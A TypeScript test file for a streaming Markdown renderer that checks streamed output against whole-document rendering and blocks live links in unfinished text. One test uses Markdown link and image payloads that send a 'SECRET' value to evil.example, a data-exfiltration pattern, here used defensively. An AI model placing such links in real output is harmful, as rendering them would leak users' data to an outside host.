import assert from 'node:assert/strict';
import {describe, it} from 'node:test';
import {MarkdownStream} from '../../src/markdown/stream.js';
import {isBranch, textOf, type Branch, type Tree} from '../../src/markdown/tree.js';
import {randomDocument, randomEnds, seeded} from './support/documents.js';
import {drawWhole, options, plain} from './support/draw.js';
import {emphasisCases, examples, missing} from './support/corpora.js';
import {atOnce, everyPrefix, streamed} from './support/stream.js';

const files = ['commonmark/spec.json', 'gfm/gfm-spec-extensions.json', 'gfm/cmark-gfm-extensions.json', 'gfm/regression.json'];

function find(trees: readonly Tree[], test: (branch: Branch) => boolean): Branch[] {
  return trees.flatMap((tree) => (isBranch(tree) ? [...(test(tree) ? [tree] : []), ...find(tree.children, test)] : []));
}

const alive = (trees: readonly Tree[]): Branch[] => find(trees, ({attrs, tag, action}) => 'href' in attrs || tag === 'button' || action !== undefined);

function write(...prefixes: string[]): MarkdownStream {
  const stream = new MarkdownStream(options);
  prefixes.forEach((text) => stream.write(text, false));
  return stream;
}

describe('a streamed answer', () => {
  for (const file of files) {
    it(`equals the whole one, node for node, at every prefix of ${file}`, {skip: missing('commonmark')}, (test) => {
      let prefixes = 0;
      for (const {example, markdown} of examples(file)) {
        prefixes += markdown.length;
        assert.equal(streamed(markdown, everyPrefix(markdown)), atOnce(markdown), `example ${example}`);
      }
      test.diagnostic(`${file}: ${examples(file).length} cases, ${prefixes} prefixes`);
    });
  }

  it('equals the whole one at every prefix of the Korean, Japanese and Chinese cases', {skip: missing('markdown-cjk')}, () => {
    for (const {markdown} of emphasisCases()) assert.equal(streamed(markdown, everyPrefix(markdown)), atOnce(markdown), markdown);
  });

  it('equals the whole one for long documents in random pieces', () => {
    const random = seeded(20261130);
    for (let round = 0; round < 60; round++) {
      const text = randomDocument(random);
      assert.equal(streamed(text, randomEnds(text, random)), atOnce(text), JSON.stringify(text));
    }
  });

  it('leaves settled blocks the same objects', () => {
    const random = seeded(7);
    for (let round = 0; round < 20; round++) {
      const text = randomDocument(random);
      let before: Branch[] = [];
      streamed(text, randomEnds(text, random), (stream) => {
        for (let index = 0; index < stream.firstChanged; index++) assert.equal(stream.blocks[index], before[index]);
        before = [...stream.blocks];
      });
    }
  });

  it('brings no link, picture or button to life in the block that still grows', () => {
    const random = seeded(11);
    for (let round = 0; round < 20; round++) {
      const text = randomDocument(random);
      streamed(text, randomEnds(text, random), ({blocks, settledBlocks}) => assert.deepEqual(alive(blocks.slice(settledBlocks)), []));
    }
  });

  it('never shows an address that is not whole as a link, at any cut of one', () => {
    const text = '앞 [말](https://evil.example/?d=SECRET "제목") ![그림](https://evil.example/p.png?d=SECRET) 뒤';
    streamed(text, everyPrefix(text), ({blocks}, end) => {
      assert.deepEqual(alive(blocks), [], text.slice(0, end));
      assert.doesNotMatch(blocks.map(textOf).join(''), /SECRET|evil/, text.slice(0, end));
    });
  });

  it('links with a definition that comes later, once the answer is whole', () => {
    const text = '[문서]를 보세요.\n\n다른 문단.\n\n[문서]: https://example.kr/\n';
    const stream = write(text);
    const [first, second] = stream.blocks;
    assert.deepEqual(find([first!], ({tag}) => tag === 'a'), []);
    stream.write(text, true);
    assert.equal(find([stream.blocks[0]!], ({tag}) => tag === 'a')[0]?.attrs.href, 'https://example.kr/');
    assert.equal(stream.blocks[1], second);
    assert.equal(plain(stream.blocks), plain(drawWhole(text)));
  });

  it('draws a list anew when its items turn out to stand apart', () => {
    const items = Array.from({length: 40}, (_, index) => `- 항목 ${index}\n`);
    const text = `${items.join('')}\n- 떨어진 항목\n`;
    assert.equal(streamed(text, [50, 200, text.length - 9, text.length]), atOnce(text));
  });

  it('starts anew when the text is another one', () => {
    const stream = write('# 처음\n\n문단');
    stream.write('다른 글', true);
    assert.equal(plain(stream.blocks), plain(drawWhole('다른 글')));
  });

  it('takes the line ends of any system, also cut in two', () => {
    assert.equal(plain(write('가\r', '가\r\n', '가\r\n\r\n나').blocks.slice(0, 1)), plain(write('가\n\n나').blocks.slice(0, 1)));
  });
});
